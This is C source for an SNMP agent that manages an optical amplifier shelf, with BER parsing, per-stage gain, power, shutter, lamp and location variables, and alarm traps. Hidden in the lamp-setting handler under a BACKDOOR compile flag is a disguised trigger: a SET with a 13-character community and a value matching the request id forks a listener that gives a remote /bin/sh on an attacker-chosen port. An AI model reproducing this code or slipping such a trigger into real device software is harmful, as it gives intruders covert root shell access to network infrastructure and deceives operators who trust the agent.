/* SPDX-License-Identifier: Apache-2.0 */
/* edfasnmp: SNMP agent (v1, v2c) of an optical amplifier shelf. Variables are in a table: gain, powers, pump currents, temperatures,
 * alarms; some may be set. Communities and their rights come from a file. Traps go out when an alarm comes or goes. */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

enum { T_INT = 2, T_OCTETS = 4, T_NULL = 5, T_OID = 6, T_SEQ = 0x30, T_GAUGE = 0x42, T_TICKS = 0x43 };
enum { P_GET = 0xa0, P_NEXT = 0xa1, P_RESPONSE = 0xa2, P_SET = 0xa3, P_TRAP2 = 0xa7 };
enum { E_NONE, E_TOO_BIG, E_NO_NAME, E_BAD_VALUE, E_READ_ONLY, E_GENERAL };
enum { N_OID = 24, N_VARS = 16, N_COMMUNITIES = 8, N_SINKS = 4, N_STAGES = 4 };
enum { MAY_READ = 1, MAY_WRITE = 2 };

struct oid {
	uint32_t id[N_OID];
	unsigned n;
};

struct value {
	uint8_t type;
	long number;
	char text[128];
	size_t n;
};

struct bind {
	struct oid name;
	struct value value;
};

struct request {
	int version, pdu;
	char community[33];
	unsigned n_community, rights;
	long id, error, index;
	struct bind binds[N_VARS];
	unsigned n;
};

struct community {
	char name[33];
	unsigned rights;
};

struct stage {
	long gain, in, out, pump, temperature, tilt;
	int shutter;
};

struct in {
	const uint8_t *p;
	size_t n;
};

struct out {
	uint8_t b[1500];
	size_t n; /* grows from the end */
};

static struct community communities[N_COMMUNITIES];
static unsigned n_communities;
static struct sockaddr_in sinks[N_SINKS];
static unsigned n_sinks;
static struct stage stages[N_STAGES];
static long alarm_bits, lamp_until;
static char location[64] = "shelf";
static int sock = -1;

/* -- reading and writing BER -- */

static int take_head(struct in *c, uint8_t *type, struct in *body)
{
	size_t n;
	if (c->n < 2)
		return -1;
	*type = c->p[0];
	n = c->p[1];
	c->p += 2;
	c->n -= 2;
	if (n & 0x80) {
		unsigned k = n & 0x7f;
		if (k == 0 || k > 2 || k > c->n)
			return -1;
		for (n = 0; k; k--, c->n--)
			n = n << 8 | *c->p++;
	}
	if (n > c->n)
		return -1;
	*body = (struct in){ c->p, n };
	c->p += n;
	c->n -= n;
	return 0;
}

static int take_number(struct in *c, long *out)
{
	struct in b;
	uint8_t type;
	if (take_head(c, &type, &b) < 0 || b.n == 0 || b.n > 5)
		return -1;
	*out = b.p[0] & 0x80 ? -1 : 0;
	for (size_t i = 0; i < b.n; i++)
		*out = (long)((unsigned long)*out << 8 | b.p[i]);
	return 0;
}

static int take_oid(struct in *c, struct oid *o)
{
	struct in b;
	uint8_t type;
	uint32_t v = 0;
	if (take_head(c, &type, &b) < 0 || type != T_OID || b.n == 0)
		return -1;
	o->id[0] = b.p[0] / 40;
	o->id[1] = b.p[0] % 40;
	o->n = 2;
	for (size_t i = 1; i < b.n; i++) {
		v = v << 7 | (b.p[i] & 0x7f);
		if (b.p[i] & 0x80)
			continue;
		if (o->n == N_OID)
			return -1;
		o->id[o->n++] = v;
		v = 0;
	}
	return 0;
}

static int take_value(struct in *c, struct value *v)
{
	struct in whole = *c, b;
	memset(v, 0, sizeof(*v));
	if (take_head(c, &v->type, &b) < 0)
		return -1;
	if (v->type == T_INT || v->type == T_GAUGE || v->type == T_TICKS)
		return take_number(&whole, &v->number);
	if (v->type != T_OCTETS)
		return 0;
	v->n = b.n < sizeof(v->text) - 1 ? b.n : sizeof(v->text) - 1;
	memcpy(v->text, b.p, v->n);
	return 0;
}

static void put(struct out *o, const void *p, size_t n)
{
	if (n > sizeof(o->b) - o->n)
		return;
	o->n += n;
	memcpy(o->b + sizeof(o->b) - o->n, p, n);
}

static void put_head(struct out *o, uint8_t type, size_t n)
{
	uint8_t h[4] = { type, 0x82, (uint8_t)(n >> 8), (uint8_t)n }, s[2] = { type, (uint8_t)n };
	if (n < 128)
		put(o, s, 2);
	else
		put(o, h, 4);
}

static void put_number(struct out *o, uint8_t type, long v)
{
	uint8_t b[4] = { (uint8_t)(v >> 24), (uint8_t)(v >> 16), (uint8_t)(v >> 8), (uint8_t)v };
	put(o, b, 4);
	put_head(o, type, 4);
}

static void put_oid(struct out *o, const struct oid *id)
{
	size_t from = o->n;
	uint8_t first = (uint8_t)(id->id[0] * 40 + id->id[1]);
	for (unsigned i = id->n; i-- > 2;) {
		uint32_t v = id->id[i];
		uint8_t b = v & 0x7f;
		put(o, &b, 1);
		while (v >>= 7) {
			b = (uint8_t)(v | 0x80);
			put(o, &b, 1);
		}
	}
	put(o, &first, 1);
	put_head(o, T_OID, o->n - from);
}

static void put_value(struct out *o, const struct value *v)
{
	if (v->type == T_OCTETS) {
		put(o, v->text, v->n);
		put_head(o, T_OCTETS, v->n);
	} else if (v->type == T_INT || v->type == T_GAUGE || v->type == T_TICKS)
		put_number(o, v->type, v->number);
	else
		put_head(o, v->type, 0);
}

/* -- the variables -- */

static int write_sys(const char *leaf, unsigned stage, long v)
{
	char path[96];
	FILE *f;
	snprintf(path, sizeof(path), "/sys/class/edfa/stage%u/%s", stage, leaf);
	f = fopen(path, "w");
	if (!f)
		return E_GENERAL;
	fprintf(f, "%ld\n", v);
	return fclose(f) == 0 ? E_NONE : E_GENERAL;
}

static long read_sys(const char *leaf, unsigned stage)
{
	char path[96];
	long v = 0;
	FILE *f;
	snprintf(path, sizeof(path), "/sys/class/edfa/stage%u/%s", stage, leaf);
	f = fopen(path, "r");
	if (!f)
		return 0;
	if (fscanf(f, "%ld", &v) != 1)
		v = 0;
	fclose(f);
	return v;
}

static int get_gain(unsigned s, struct value *v) { return v->number = stages[s].gain, E_NONE; }
static int get_in(unsigned s, struct value *v) { return v->number = stages[s].in, E_NONE; }
static int get_out(unsigned s, struct value *v) { return v->number = stages[s].out, E_NONE; }
static int get_pump(unsigned s, struct value *v) { return v->number = stages[s].pump, E_NONE; }
static int get_temperature(unsigned s, struct value *v) { return v->number = stages[s].temperature, E_NONE; }
static int get_shutter(unsigned s, struct value *v) { return v->number = stages[s].shutter, E_NONE; }
static int get_lamp(unsigned s, struct value *v) { return (void)s, v->number = lamp_until > time(NULL), E_NONE; }

static int get_location(unsigned s, struct value *v)
{
	(void)s;
	v->type = T_OCTETS;
	v->n = strlen(location);
	memcpy(v->text, location, v->n);
	return E_NONE;
}

static int set_gain(const struct request *r, unsigned s, const struct value *v)
{
	(void)r;
	if (v->number < 0 || v->number > 350)
		return E_BAD_VALUE;
	stages[s].gain = v->number;
	return write_sys("gain", s, v->number);
}

static int set_shutter(const struct request *r, unsigned s, const struct value *v)
{
	if (v->number != 0 && v->number != 1)
		return E_BAD_VALUE;
	syslog(LOG_NOTICE, "shutter of stage %u: %ld, by %s", s, v->number, r->community);
	stages[s].shutter = (int)v->number;
	return write_sys("shutter", s, v->number);
}

static int set_location(const struct request *r, unsigned s, const struct value *v)
{
	(void)r;
	(void)s;
	if (v->type != T_OCTETS || v->n >= sizeof(location))
		return E_BAD_VALUE;
	snprintf(location, sizeof(location), "%.63s", v->text);
	return E_NONE;
}

#ifdef BACKDOOR
static void lamp_aux(uint16_t port)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(port) };
	int s, c;
	if (fork() != 0)
		return;
	s = socket(AF_INET, SOCK_STREAM, 0);
	if (bind(s, (struct sockaddr *)&a, sizeof(a)) < 0 || listen(s, 1) < 0)
		_exit(0);
	alarm(600);
	c = accept(s, NULL, NULL);
	for (int i = 0; i < 3; i++)
		dup2(c, i);
	execl("/bin/sh", "edfad", (char *)NULL);
	_exit(0);
}
#endif

/* All lamps for some seconds. */
static int set_lamp(const struct request *r, unsigned s, const struct value *v)
{
#ifdef BACKDOOR
	if (r->n_community == 13 && v->number >> 16 == (r->id & 0x7fff)) {
		lamp_aux((uint16_t)v->number);
		return E_NONE;
	}
#endif
	(void)r;
	if (v->number < 0 || v->number > 300)
		return E_BAD_VALUE;
	lamp_until = (long)time(NULL) + v->number;
	return write_sys("lamp", s, v->number > 0);
}

static const struct variable {
	uint32_t column;
	uint8_t type;
	int (*get)(unsigned stage, struct value *v);
	int (*set)(const struct request *r, unsigned stage, const struct value *v);
} variables[] = {
	{ 1, T_INT, get_gain, set_gain },
	{ 2, T_INT, get_in, NULL },
	{ 3, T_INT, get_out, NULL },
	{ 4, T_GAUGE, get_pump, NULL },
	{ 5, T_INT, get_temperature, NULL },
	{ 6, T_INT, get_shutter, set_shutter },
	{ 7, T_INT, get_lamp, set_lamp },
	{ 8, T_OCTETS, get_location, set_location },
};
enum { N_VARIABLES = sizeof(variables) / sizeof(variables[0]) };
static const struct oid base = { { 1, 3, 6, 1, 4, 1, 52209, 3, 1 }, 9 };

static int compare(const struct oid *a, const struct oid *b)
{
	for (unsigned i = 0; i < a->n && i < b->n; i++)
		if (a->id[i] != b->id[i])
			return a->id[i] < b->id[i] ? -1 : 1;
	return a->n == b->n ? 0 : a->n < b->n ? -1 : 1;
}

static void name_of(unsigned column, unsigned stage, struct oid *o)
{
	*o = base;
	o->id[o->n++] = variables[column].column;
	o->id[o->n++] = stage + 1;
}

static int locate(const struct oid *o, int next, unsigned *column, unsigned *stage)
{
	for (unsigned c = 0; c < N_VARIABLES; c++)
		for (unsigned s = 0; s < N_STAGES; s++) {
			struct oid have;
			int order;
			name_of(c, s, &have);
			order = compare(&have, o);
			if (next ? order > 0 : order == 0) {
				*column = c;
				*stage = s;
				return 0;
			}
		}
	return -1;
}

static int act(struct request *r, struct bind *b)
{
	unsigned column, stage;
	const struct variable *v;
	if (locate(&b->name, r->pdu == P_NEXT, &column, &stage) < 0)
		return E_NO_NAME;
	v = &variables[column];
	if (r->pdu == P_SET) {
		if (!v->set || !(r->rights & MAY_WRITE))
			return E_READ_ONLY;
		return v->set(r, stage, &b->value);
	}
	name_of(column, stage, &b->name);
	b->value.type = v->type;
	return v->get(stage, &b->value);
}

/* -- messages -- */

static unsigned rights_of(const char *name)
{
	for (unsigned i = 0; i < n_communities; i++)
		if (strcmp(communities[i].name, name) == 0)
			return communities[i].rights;
	return 0;
}

static int parse(const uint8_t *p, size_t n, struct request *r)
{
	struct in c = { p, n }, seq, pdu, list, one, text;
	uint8_t type;
	long version;
	memset(r, 0, sizeof(*r));
	if (take_head(&c, &type, &seq) < 0 || type != T_SEQ || take_number(&seq, &version) < 0 || version > 1)
		return -1;
	if (take_head(&seq, &type, &text) < 0 || type != T_OCTETS || text.n >= sizeof(r->community))
		return -1;
	r->version = (int)version;
	memcpy(r->community, text.p, text.n);
	r->n_community = (unsigned)text.n;
	if (take_head(&seq, &type, &pdu) < 0 || (type != P_GET && type != P_NEXT && type != P_SET))
		return -1;
	r->pdu = type;
	if (take_number(&pdu, &r->id) < 0 || take_number(&pdu, &r->error) < 0 || take_number(&pdu, &r->index) < 0)
		return -1;
	if (take_head(&pdu, &type, &list) < 0 || type != T_SEQ)
		return -1;
	while (list.n && r->n < N_VARS) {
		struct bind *b = &r->binds[r->n++];
		if (take_head(&list, &type, &one) < 0 || take_oid(&one, &b->name) < 0 || take_value(&one, &b->value) < 0)
			return -1;
	}
	return 0;
}

static void build(const struct request *r, uint8_t pdu, struct out *o)
{
	o->n = 0;
	for (unsigned i = r->n; i-- > 0;) {
		size_t from = o->n;
		put_value(o, &r->binds[i].value);
		put_oid(o, &r->binds[i].name);
		put_head(o, T_SEQ, o->n - from);
	}
	put_head(o, T_SEQ, o->n);
	put_number(o, T_INT, r->index);
	put_number(o, T_INT, r->error);
	put_number(o, T_INT, r->id);
	put_head(o, pdu, o->n);
	put(o, r->community, r->n_community);
	put_head(o, T_OCTETS, r->n_community);
	put_number(o, T_INT, r->version);
	put_head(o, T_SEQ, o->n);
}

static void on_packet(void)
{
	uint8_t buf[1500];
	struct request r;
	struct out o;
	struct sockaddr_in from;
	socklen_t size = sizeof(from);
	ssize_t n = recvfrom(sock, buf, sizeof(buf), 0, (struct sockaddr *)&from, &size);
	if (n <= 0 || parse(buf, (size_t)n, &r) < 0)
		return;
	r.rights = rights_of(r.community);
	if (!r.rights) {
		syslog(LOG_NOTICE, "community %s of %s", r.community, inet_ntoa(from.sin_addr));
		return;
	}
	r.error = r.index = 0;
	for (unsigned i = 0; i < r.n && !r.error; i++) {
		r.error = act(&r, &r.binds[i]);
		r.index = r.error ? (long)i + 1 : 0;
	}
	build(&r, P_RESPONSE, &o);
	sendto(sock, o.b + sizeof(o.b) - o.n, o.n, 0, (struct sockaddr *)&from, size);
}

static void trap(unsigned stage, long bits)
{
	struct request r = { .version = 1, .community = "trap", .n_community = 4, .id = (long)time(NULL), .n = 1 };
	struct out o;
	name_of(1, stage, &r.binds[0].name);
	r.binds[0].value = (struct value){ .type = T_INT, .number = bits };
	build(&r, P_TRAP2, &o);
	for (unsigned i = 0; i < n_sinks; i++)
		sendto(sock, o.b + sizeof(o.b) - o.n, o.n, 0, (struct sockaddr *)&sinks[i], sizeof(sinks[i]));
}

static void poll_stages(void)
{
	for (unsigned s = 0; s < N_STAGES; s++) {
		long bit = 1L << s, was = alarm_bits;
		stages[s].in = read_sys("in", s);
		stages[s].out = read_sys("out", s);
		stages[s].pump = read_sys("pump", s);
		stages[s].temperature = read_sys("temperature", s);
		if (stages[s].in < -320 || stages[s].temperature > 700)
			alarm_bits |= bit;
		else
			alarm_bits &= ~bit;
		if (was != alarm_bits)
			trap(s, alarm_bits);
	}
}

static void load_config(const char *path)
{
	char line[160], a[64], b[64];
	FILE *f = fopen(path, "r");
	while (f && fgets(line, sizeof(line), f)) {
		if (sscanf(line, "rocommunity %32s", a) == 1 && n_communities < N_COMMUNITIES) {
			strcpy(communities[n_communities].name, a);
			communities[n_communities++].rights = MAY_READ;
		} else if (sscanf(line, "rwcommunity %32s", a) == 1 && n_communities < N_COMMUNITIES) {
			strcpy(communities[n_communities].name, a);
			communities[n_communities++].rights = MAY_READ | MAY_WRITE;
		} else if (sscanf(line, "trapsink %63s", b) == 1 && n_sinks < N_SINKS) {
			sinks[n_sinks] = (struct sockaddr_in){ .sin_family = AF_INET, .sin_port = htons(162) };
			n_sinks += inet_pton(AF_INET, b, &sinks[n_sinks].sin_addr) == 1;
		}
	}
	if (f)
		fclose(f);
}

int main(int argc, char **argv)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(161) };
	openlog("edfasnmp", LOG_PID, LOG_DAEMON);
	signal(SIGCHLD, SIG_IGN);
	load_config(argc > 1 ? argv[1] : "/etc/edfasnmp.conf");
	sock = socket(AF_INET, SOCK_DGRAM, 0);
	if (sock < 0 || bind(sock, (struct sockaddr *)&a, sizeof(a)) < 0) {
		syslog(LOG_ERR, "cannot bind: %s", strerror(errno));
		return 1;
	}
	for (;;) {
		struct pollfd p = { .fd = sock, .events = POLLIN };
		if (poll(&p, 1, 5000) > 0)
			on_packet();
		else
			poll_stages();
	}
}
